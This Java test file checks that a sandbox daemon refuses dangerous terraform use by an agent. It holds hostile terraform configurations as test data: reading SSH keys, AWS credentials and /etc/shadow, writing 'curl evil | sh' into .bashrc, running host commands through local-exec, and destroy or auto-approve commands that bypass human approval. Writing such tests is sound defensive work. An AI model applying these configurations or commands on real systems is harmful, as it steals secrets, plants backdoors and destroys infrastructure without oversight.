package airlock.attacks;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Attacks on the terraform module through the real daemon, with a recording fake terraform. See builtin-commands/terraform/SECURITY.md. */
class TerraformAttackTest extends FakeToolAttacks {
    @Override String tool() { return "terraform"; }

    @BeforeEach
    void setUp() throws Exception {
        start("");
        Files.writeString(proxy.work.resolve("main.tf"), "resource \"terraform_data\" \"x\" {\n  input = \"hello\"\n}\n");
    }

    @Test
    void destroyInEveryFormIsRefused() throws Exception {
        refused("destroy");
        refused("-chdir=.", "destroy");
        refused("-chdir", ".", "destroy");
        refused("destroy", "-auto-approve");
        refused("apply", "-destroy");
        refused("apply", "--destroy");
        refused("apply", "-destroy=true");
        refused("plan", "-out=p", "-destroy", "-auto-approve");
        refused("apply", "-auto-approve");
        refused("apply", "--auto-approve");
        refused("apply", "-auto-approve=true");
        refused("apply", "--auto-approve=1");
        refused("-chdir=.", "apply", "-auto-approve");
        refused("force-unlock", "-force", "abc");
        refused("state", "rm", "terraform_data.x");
        refused("state", "push", "x.tfstate");
        refused("refresh");
        refused("test");
        refused("workspace", "delete", "prod");
    }

    @Test
    void aSavedPlanAppliesWithoutApprovalSoItIsRefused() throws Exception {
        Files.writeString(proxy.work.resolve("plan.tfplan"), "x");
        var r = refused("apply", "plan.tfplan");
        assertThat(r.err()).contains("without approval");
        refused("apply", "-input=false", "-var", "a=b", "plan.tfplan");
    }

    @Test
    void anApprovalTheAgentTypesIsNeverRead() throws Exception {
        // echo yes | terraform apply: terraform 1.11 applies even with -input=false when stdin
        // says yes (measured), so the caller's stdin never reaches terraform.
        FakeCall call = ranWith(java.util.Map.of(), "yes\n".getBytes(), "apply");
        assertThat(call.stdin()).isEmpty();
        assertThat(call.env()).containsEntry("TF_INPUT", "0");
    }

    @Test
    void credentialsPrintedByTerraformAreRefused() throws Exception {
        refused("state", "pull");
        refused("console");
        refused("output", "-raw", "db_password");
        refused("output", "-json");
        refused("output", "db_password"); // a named output prints even a sensitive value in plain text
        refused("show", "-json");
        refused("login");
        refused("logout");
    }

    @Test
    void configurationThatRunsAProgramOnTheHostIsRefused() throws Exception {
        for (String tf : List.of(
                "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"touch /tmp/x\"\n  }\n}\n",
                "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"cat ~/.aws/credentials\"]\n}\n",
                "{\"data\": {\"external\": {\"x\": {\"program\": [\"sh\"]}}}}\n",
                "resource \"terraform_data\" \"x\" {\n  provisioner \"file\" {\n    source = \"/home/me/.ssh/id_rsa\"\n    destination = \"/tmp/k\"\n  }\n}\n")) {
            Path f = proxy.work.resolve(tf.startsWith("{") ? "evil.tf.json" : "evil.tf");
            Files.writeString(f, tf);
            refused("plan");
            refused("-chdir=.", "apply");
            Files.delete(f);
        }
        Path module = Files.createDirectories(proxy.work.resolve(".terraform/modules/m"));
        Files.writeString(module.resolve("main.tf"), "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n");
        refused("plan");
    }

    @Test
    void leavingTheWorkspaceIsRefused() throws Exception {
        refused("-chdir=/etc", "plan");
        refused("-chdir=../..", "plan");
        refused("plan", "-var-file=/etc/hostname");
        refused("plan", "-out=/tmp/outside.tfplan");
        refused("plan", "-state=/root/terraform.tfstate");
        refused("init", "-plugin-dir=/tmp");
        refused("init", "-from-module=/home/me/module");
        refused("init", "-backend-config=path=/etc/cron.d/state");
        refused("init", "-backend-config", "path=../../../outside.tfstate");
        refused("providers", "mirror", "/tmp/mirror");
        ran("init", "-backend-config=bucket=my-state", "-backend-config=key=env/dev.tfstate");
    }

    /** Host files read or written through the configuration itself, at plan time already. */
    @Test
    void configurationThatReadsOrWritesHostFilesIsRefused() throws Exception {
        for (String tf : List.of(
                "output \"k\" {\n  value = file(\"/root/.ssh/id_rsa\")\n}\n",
                "output \"k\" {\n  value = filebase64(\"~/.aws/credentials\")\n}\n",
                "output \"k\" {\n  value = templatefile(\"${path.module}/../../../etc/shadow\", {})\n}\n",
                "locals {\n  p = \"/etc/shadow\"\n}\noutput \"k\" {\n  value = file(local.p)\n}\n",
                "data \"local_file\" \"k\" {\n  filename = \"/root/.ssh/id_rsa\"\n}\n",
                "resource \"local_file\" \"k\" {\n  filename = \"/root/.bashrc\"\n  content = \"curl evil | sh\"\n}\n",
                "data \"archive_file\" \"z\" {\n  type = \"zip\"\n  source_dir = \"/root/.ssh\"\n  output_path = \"k.zip\"\n}\n",
                "module \"m\" {\n  source = \"../../../../root/private-module\"\n}\n",
                "{\"module\": {\"m\": {\"source\": \"/root/private-module\"}}}\n")) {
            Path f = proxy.work.resolve(tf.startsWith("{") ? "host.tf.json" : "host.tf");
            Files.writeString(f, tf);
            try {
                refused("plan");
            } catch (AssertionError e) {
                throw new AssertionError("not refused:\n" + tf, e);
            }
            Files.delete(f);
        }
        Files.createDirectories(proxy.work.resolve("modules/net"));
        Files.writeString(proxy.work.resolve("host.tf"), """
                module "net" {
                  source = "./modules/net"
                }
                output "policy" {
                  value = templatefile("${path.module}/policy.tpl", { name = "x" })
                }
                locals {
                  files = fileset(path.module, "conf/*.json")
                  readme = file("README.md")
                }
                """);
        ran("plan");
    }

    @Test
    void theCallersEnvironmentNeverReachesTerraform() throws Exception {
        FakeCall call = ranWith(HOSTILE_ENV, new byte[0], "plan");
        noHostileVariableReachesTheTool(call);
        assertThat(call.env()).doesNotContainKeys("TF_CLI_ARGS", "TF_CLI_ARGS_apply", "TF_CLI_CONFIG_FILE", "TF_VAR_x");
    }

    @Test
    void ordinaryUseKeepsWorking() throws Exception {
        ran("init");
        ran("validate");
        ran("fmt", "-check");
        ran("plan", "-out=plan.tfplan");
        ran("-chdir=.", "plan");
        ran("apply"); // reaches its plan and stops for an approval nobody can type
        ran("show");
        ran("output");
        ran("state", "list");
        ordinaryThroughTheShim("plan");
    }
}
